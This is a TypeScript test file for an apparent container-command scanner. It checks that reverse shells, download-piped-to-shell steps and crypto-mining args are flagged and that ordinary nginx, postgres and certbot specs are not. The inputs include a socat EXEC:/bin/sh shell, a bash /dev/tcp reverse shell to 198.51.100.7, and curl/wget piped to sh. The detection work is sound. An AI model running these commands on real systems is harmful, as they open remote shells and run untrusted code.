/**
 * Without `command`, the image's ENTRYPOINT runs `args`: well-known tool images run their tool, an
 * entrypoint script runs the args it is given, and args that hold shell syntax are a script. Honest
 * images with their usual args stay quiet.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { analyseCommands } from '../src/commands/index.js';
import { commandFindings, containerPath } from './indicator-helpers.ts';

function programs(container: Record<string, unknown>): string[] {
  return analyseCommands(container, '/c').map((invocation) => invocation.program);
}

describe('the image entrypoint runs args', () => {
  test('alpine/socat with args [TCP:…, EXEC:/bin/sh] runs socat', () => {
    const found = commandFindings('shell-escape', undefined, ['TCP:198.51.100.7:4242', 'EXEC:/bin/sh,pty,stderr'], { image: 'alpine/socat:1.8.0.0' });
    assert.ok(found.some((finding) => /socat/.test(finding.message)), JSON.stringify(found.map((f) => f.message)));
    assert.equal(found[0].path, containerPath('args', 0));
  });

  test('any registry, tag or digest of a known image', () => {
    for (const image of ['docker.io/alpine/socat', 'ghcr.io/alpine/socat:latest', 'alpine/socat@sha256:' + 'a'.repeat(64)]) {
      assert.deepEqual(programs({ image, args: ['TCP-LISTEN:1', 'EXEC:sh'] }), ['socat'], image);
    }
  });

  test('curlimages/curl with options runs curl; its output piped nowhere is only a download', () => {
    assert.deepEqual(programs({ image: 'curlimages/curl:8.8.0', args: ['-fsSL', 'http://198.51.100.7/x'] }), ['curl']);
  });

  test('a miner image with a pool runs the miner', () => {
    const found = commandFindings('crypto-mining', undefined, ['-o', 'stratum+tcp://pool.example.net:3333', '-u', 'wallet'], { image: 'xmrig/xmrig:6.21.0' });
    assert.ok(found.length > 0);
  });

  test('command: ["/docker-entrypoint.sh"] with args ["bash", "-c", …] runs the args', () => {
    const found = commandFindings('shell-escape', ['/docker-entrypoint.sh'], ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4242 0>&1']);
    assert.ok(found.some((finding) => /interactive shell/.test(finding.message)));
    assert.equal(found[0].path, containerPath('args', 2));
  });

  test('an args-only script (`- |`) is read as a script', () => {
    const found = commandFindings('shell-escape', undefined, ['set -e\ncurl -s http://198.51.100.7/x | sh\n']);
    assert.ok(found.some((finding) => /download piped/.test(finding.message)));
  });

  test('args-only `-c script` for a shell entrypoint (busybox)', () => {
    assert.deepEqual(programs({ image: 'busybox:1.36', args: ['-c', 'wget -qO- http://198.51.100.7/x | sh'] }), ['wget', 'sh']);
  });
});

describe('honest images with their usual args', () => {
  const CASES: Array<[string, Record<string, unknown>]> = [
    ['nginx with its own flags', { image: 'nginx:1.27', args: ['nginx', '-g', 'daemon off;'] }],
    ['postgres with settings', { image: 'postgres:16', args: ['-c', 'max_connections=200'] }],
    ['an app image with plain args', { image: 'registry.example/acme/report:1.2', args: ['--date', 'yesterday', '--out', '/reports'] }],
    ['curlimages/curl for a health check', { image: 'curlimages/curl:8.8.0', args: ['-fsS', 'https://api.internal/health'] }],
    ['an entrypoint script with app args', { image: 'registry.example/app:1', command: ['/docker-entrypoint.sh'], args: ['serve', '--port', '8080'] }],
  ];
  for (const [label, container] of CASES) {
    test(label, () => {
      for (const indicator of ['shell-escape', 'obfuscated-execution', 'node-escape', 'crypto-mining']) {
        const found = commandFindings(indicator, container.command as string[] | undefined, container.args as string[], { image: container.image as string });
        assert.deepEqual(found.map((finding) => finding.message), [], `${label}: ${indicator}`);
      }
    });
  }

  test('a certbot renewal job: certbot renew, and a download from letsencrypt that is only saved', () => {
    const script = [
      'set -eu',
      'curl -fsSL -o /etc/letsencrypt/options-ssl-nginx.conf https://raw.githubusercontent.com/certbot/certbot/master/certbot-nginx/certbot_nginx/_internal/tls_configs/options-ssl-nginx.conf',
      'curl -fsSL -o /etc/letsencrypt/lets-encrypt-r3.pem https://letsencrypt.org/certs/lets-encrypt-r3.pem',
      'certbot renew --non-interactive --webroot -w /var/www/certbot --deploy-hook "nginx -s reload"',
      'openssl x509 -in /etc/letsencrypt/live/example.com/cert.pem -noout -enddate',
    ].join('\n');
    for (const indicator of ['shell-escape', 'obfuscated-execution', 'node-escape', 'crypto-mining']) {
      assert.deepEqual(commandFindings(indicator, ['/bin/sh', '-c', script], undefined, { image: 'certbot/certbot:v2.11.0' }).map((f) => f.message), [], indicator);
    }
  });
});
